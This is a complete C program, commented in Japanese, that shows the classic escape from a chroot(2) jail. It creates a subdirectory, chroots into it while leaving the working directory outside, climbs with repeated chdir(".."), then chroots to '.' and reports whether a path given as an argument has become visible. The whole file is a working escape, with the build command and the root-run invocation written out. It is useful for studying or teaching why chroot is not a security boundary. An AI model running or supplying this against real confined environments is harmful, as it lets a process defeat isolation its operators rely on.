/*
 * chroot(2) から抜け出す古典的な方法。ルートがどこかは、引数の道が見えるかで調べる。
 *
 * 実行: gcc -static -Wall -Wextra -Wpedantic -o escape escape.c
 *       sudo chroot DIR /escape PATH
 */
#define _GNU_SOURCE
#include <err.h>
#include <errno.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static void look(const char *label, const char *path)
{
    printf("%s: %s %s\n", label, path,
           access(path, F_OK) == 0 ? "が見える" : "は見えない");
}

int main(int argc, char *argv[])
{
    if (argc != 2)
        errx(1, "usage: %s PATH", argv[0]);
    look("before", argv[1]);

    if (mkdir("hole", 0700) < 0 && errno != EEXIST)
        err(1, "mkdir");
    if (chroot("hole") < 0) /* ルートだけが下がり、作業ディレクトリはその外に残る */
        err(1, "chroot");
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0) /* 「..」が止まるのはルートだけで、いまはその外にいる */
            err(1, "chdir");
    if (chroot(".") < 0)
        err(1, "chroot");

    look("after ", argv[1]);
    return 0;
}
